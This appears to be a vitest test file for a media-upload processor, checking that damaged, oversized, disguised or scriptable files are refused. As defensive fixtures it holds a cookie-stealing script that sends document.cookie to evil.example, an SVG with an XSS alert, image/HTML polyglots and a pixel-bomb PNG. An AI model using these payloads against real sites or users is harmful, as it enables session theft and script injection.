import sharp from 'sharp';
import { expect, test } from 'vitest';
import { processUpload } from '../../../lambdas/media-processing/process-media.ts';
import { declared, photo } from './images.ts';

async function reason(bytes: Buffer, filename = 'upload.jpg', contentType = 'image/jpeg', maxBytes?: number): Promise<string> {
  const result = await processUpload(bytes, declared(filename, contentType, maxBytes));
  if (result.status !== 'rejected') throw new Error(`expected a refusal, got a ${result.kind}`);
  return result.reason;
}

const DAMAGED = /damaged or incomplete/;
const HTML = Buffer.from('<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');

test('an empty file', async () => {
  expect(await reason(Buffer.alloc(0))).toBe('The file is empty.');
});

test('a file over the limit, whatever it is, names both sizes', async () => {
  const jpeg = await photo(800, 600).jpeg().toBuffer();
  expect(await reason(jpeg, 'photo.jpg', 'image/jpeg', jpeg.length - 1)).toMatch(/^The file is [\d.]+ MB; the limit is [\d.]+ MB\.$/);
  expect((await processUpload(jpeg, declared('photo.jpg', 'image/jpeg', jpeg.length))).status).toBe('ready');
});

test('a truncated JPEG', async () => {
  const jpeg = await photo(800, 600).jpeg().toBuffer();
  expect(await reason(jpeg.subarray(0, Math.floor(jpeg.length * 0.6)))).toMatch(DAMAGED);
});

test('a truncated JPEG given an end marker again is refused by the decoder', async () => {
  // The container structure is complete, so only the decoder (failOn) can tell the scan is short.
  const jpeg = await photo(800, 600).jpeg().toBuffer();
  const patched = Buffer.concat([jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), Buffer.from([0xff, 0xd9])]);
  expect(await reason(patched)).toMatch(DAMAGED);
});

test('a JPEG followed by HTML (a polyglot that decodes as a valid JPEG) is refused, saying why', async () => {
  const jpeg = await photo(400, 300).jpeg().toBuffer();
  const polyglot = Buffer.concat([jpeg, HTML]);
  expect((await sharp(polyglot).metadata()).format).toBe('jpeg'); // what makes it dangerous
  expect(await reason(polyglot)).toBe(`The image has ${HTML.length} bytes of other data after its end; it may be a disguised file. Save or export it again.`);
});

test('a PNG and a WebP followed by HTML are refused the same way', async () => {
  const png = await photo(300, 200).png().toBuffer();
  expect(await reason(Buffer.concat([png, HTML]), 'a.png', 'image/png')).toMatch(/other data after its end/);
  const webp = await photo(300, 200).webp().toBuffer();
  expect(await reason(Buffer.concat([webp, HTML]), 'a.webp', 'image/webp')).toMatch(/other data after its end/);
});

test('a 20,000 × 20,000 PNG is refused from its header, before anything is decoded', async () => {
  const bomb = await sharp({ create: { width: 20_000, height: 20_000, channels: 3, background: '#ffffff' }, limitInputPixels: false }).png({ compressionLevel: 1 }).toBuffer();
  // A decode attempt would end in the pixel-limit error (reported as a damaged image); the reason
  // naming the header's dimensions shows the refusal came first.
  expect(await reason(bomb, 'huge.png', 'image/png')).toBe(
    'The image is 20000 × 20000 pixels (400 megapixels); the limit is 100 megapixels. Reduce its size and upload it again.',
  );
});

test('an SVG with a script is refused as SVG, also when named and declared as a PNG', async () => {
  const svg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>');
  expect(await reason(svg, 'logo.svg', 'image/svg+xml')).toMatch(/^SVG images are not accepted: they can carry scripts/);
  expect(await reason(svg, 'logo.png', 'image/png')).toMatch(/^SVG images are not accepted/);
});

test('GIF, HEIC and TIFF are refused with a way out', async () => {
  const gif = await photo(100, 100).gif().toBuffer();
  expect(await reason(gif, 'a.gif', 'image/gif')).toMatch(/^GIF images are not accepted; upload the image as PNG or JPEG/);
  // An iPhone HEIC starts with an `ftyp` box of brand heic (sharp's build here cannot write HEVC).
  const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(200)]);
  expect(await reason(heic, 'IMG_0001.HEIC', 'image/heic')).toMatch(/^HEIC images .* export the photo as JPEG/);
  const tiff = await photo(100, 100).tiff().toBuffer();
  expect(await reason(tiff, 'scan.tif', 'image/tiff')).toMatch(/^TIFF images are not accepted/);
});

test('an animated WebP is refused', async () => {
  const frame = (colour: string) => sharp({ create: { width: 50, height: 50, channels: 3, background: colour } }).png().toBuffer();
  const frames = await Promise.all(['#ff0000', '#00ff00', '#0000ff'].map(frame));
  const animated = await sharp(frames, { join: { animated: true } }).webp({ loop: 0 }).toBuffer();
  expect((await sharp(animated).metadata()).pages).toBe(3);
  expect(await reason(animated, 'anim.webp', 'image/webp')).toMatch(/^Animated or multi-image files are not accepted/);
});

test('text, HTML and random bytes are refused, whatever they are called', async () => {
  expect(await reason(HTML, 'photo.jpg', 'image/jpeg')).toMatch(/^The file is a web page \(HTML\)/);
  expect(await reason(Buffer.from('just some text'), 'notes.txt', 'text/plain')).toMatch(/^The file is not an image or a document that can be published/);
  expect(await reason(Buffer.from([0xff, 0xd8, 0xff]), 'tiny.jpg', 'image/jpeg')).toMatch(DAMAGED);
});
